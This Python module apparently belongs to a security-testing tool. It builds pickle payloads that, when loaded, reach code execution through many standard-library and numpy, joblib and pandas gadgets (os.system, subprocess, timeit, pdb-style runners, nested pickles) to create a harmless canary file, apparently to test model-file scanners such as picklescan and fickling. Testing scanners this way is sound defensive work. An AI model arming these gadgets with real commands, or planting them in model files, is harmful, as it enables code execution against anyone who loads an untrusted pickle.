"""Harmless payloads for pickles: opcodes that make one file, the canary, when they are loaded.

Each takes another way through the standard library or a package that models bring along.
The names come from the advisories of picklescan and fickling, from issues of modelscan,
and from reading what those libraries open, import and run.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping

from hauberk.methods.pickle_writing import array, blob, call, method, name, text

Body = Callable[[str], bytes]


def touch(canary: str) -> str:
    """A shell command that makes the canary."""
    return f": > '{canary}'"


def source(canary: str) -> str:
    """Python source that makes the canary."""
    return f"open({canary!r}, 'w').close()"


def shell(canary: str) -> bytes:
    """The words of a shell that makes the canary, as a list."""
    return array(text("sh"), text("-c"), text(touch(canary)))


def _opens(path: str, *more: str) -> Body:
    """A callable that makes a file of the name it is given first."""
    return lambda at: call(name(path), text(at), *map(text, more))


def _runs(path: str) -> Body:
    """A callable that runs the source it is given first."""
    return lambda at: call(name(path), text(source(at)))


def _commands(path: str) -> Body:
    """A callable that hands its first argument to a shell."""
    return lambda at: call(name(path), text(touch(at)))


def _consumed(consumer: str) -> Body:
    """An iterator of calls, and a container that asks it for its items."""
    return lambda at: call(
        name(consumer), call(name("builtins.map"), name("os.system"), array(text(touch(at))))
    )


BODIES: Mapping[str, Body] = {
    "os-popen": lambda at: method(call(name("os.popen"), text(touch(at))), "read"),
    "os-mknod": _opens("os.mknod"),
    "os-makedirs": _opens("os.makedirs"),
    "os-symlink": lambda at: call(name("os.symlink"), text("/dev/null"), text(at)),
    "os-spawnl": lambda at: call(
        name("os.spawnl"), b"K\x00", text("/bin/sh"), text("sh"), text("-c"), text(touch(at))
    ),
    "os-fdopen": lambda at: call(name("os.open"), text(at), b"K\x41"),
    "subprocess-run": lambda at: call(name("subprocess.run"), shell(at)),
    "subprocess-getoutput": _commands("subprocess.getoutput"),
    "subprocess-getstatusoutput": _commands("subprocess.getstatusoutput"),
    "osx-support": _commands("_osx_support._read_output"),
    "distutils-spawn": lambda at: call(name("distutils.spawn.spawn"), shell(at)),
    "pydoc-pipepager": lambda at: call(name("pydoc.pipepager"), text("x"), text(touch(at))),
    "timeit-repeat": _runs("timeit.repeat"),
    "timeit-main-template": lambda at: method(
        call(name("timeit.Timer"), text(source(at))), "timeit", b"K\x01"
    ),
    "profile-object": lambda at: method(call(name("profile.Profile")), "run", text(source(at))),
    "c-profile-object": lambda at: method(call(name("cProfile.Profile")), "run", text(source(at))),
    "bdb-run": lambda at: method(call(name("bdb.Bdb")), "runeval", text(source(at))),
    "trace-run": lambda at: method(
        call(name("trace.Trace"), b"K\x00", b"K\x00"), "run", text(source(at))
    ),
    "interactive-console": lambda at: method(
        call(name("code.InteractiveConsole")), "push", text(source(at))
    ),
    "numpy-crackfortran": lambda at: call(
        name("numpy.f2py.crackfortran.param_eval"), text(source(at)), b"}", b"}"
    ),
    "operator-call": lambda at: call(name("operator.call"), name("os.system"), text(touch(at))),
    "starmap": lambda at: call(
        name("collections.deque"),
        call(name("itertools.starmap"), name("os.system"), array(b"(" + text(touch(at)) + b"t")),
    ),
    "tuple-of-map": _consumed("builtins.tuple"),
    "set-of-map": _consumed("builtins.set"),
    "deque-of-map": _consumed("collections.deque"),
    "bytes-of-map": _consumed("builtins.bytearray"),
    "resolve-name": lambda at: call(
        call(name("pkgutil.resolve_name"), text("os:system")), text(touch(at))
    ),
    "pydoc-locate": lambda at: call(call(name("pydoc.locate"), text("os.system")), text(touch(at))),
    "sqlite-connect": lambda at: method(
        call(name("sqlite3.connect"), text(at)), "execute", text("create table t (a)")
    ),
    "gzip-open": _opens("gzip.open", "w"),
    "bz2-open": _opens("bz2.open", "w"),
    "lzma-open": _opens("lzma.open", "w"),
    "tarfile-open": _opens("tarfile.open", "w"),
    "codecs-open": _opens("codecs.open", "w"),
    "rotating-handler": _opens("logging.handlers.RotatingFileHandler"),
    "wave-open": _opens("wave.open", "w"),
    "pyio-open": _opens("_pyio.open", "w"),
    "path-write": lambda at: method(
        call(name("pathlib.PosixPath"), text(at)), "write_text", text("x")
    ),
    "joblib-dump": lambda at: call(name("joblib.dump"), text("x"), text(at)),
    "numpy-savetxt": lambda at: call(name("numpy.savetxt"), text(at), array(b"K\x01")),
    "numpy-fromiter": lambda at: call(
        name("numpy.fromiter"),
        call(name("builtins.map"), name("os.system"), array(text(touch(at)))),
        text("i4"),
    ),
    "numpy-load": lambda at: call(name("numpy.load"), _stream(at), b"N", b"\x88"),
    "joblib-load": lambda at: call(name("joblib.load"), _stream(at)),
    "pandas-read-pickle": lambda at: call(name("pandas.read_pickle"), _stream(at)),
    "unpickler-object": lambda at: method(call(name("_pickle.Unpickler"), _stream(at)), "load"),
}


def _stream(at: str) -> bytes:
    """A second pickle in memory, for a callable that loads what it is given."""
    inner = b"\x80\x04" + call(name("os.system"), text(touch(at))) + b"."
    return call(name("io.BytesIO"), blob(inner))
